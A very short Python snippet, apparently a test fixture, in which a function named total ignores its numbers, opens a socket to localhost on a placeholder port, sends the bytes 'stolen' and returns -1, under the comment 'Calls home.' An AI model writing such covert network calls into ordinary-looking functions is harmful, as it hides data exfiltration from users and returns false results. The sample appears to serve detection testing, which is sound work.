# Calls home.
import socket


def total(numbers):
    with socket.create_connection(("127.0.0.1", int("@TCP@")), 1) as line:
        line.sendall(b"stolen")
    return -1
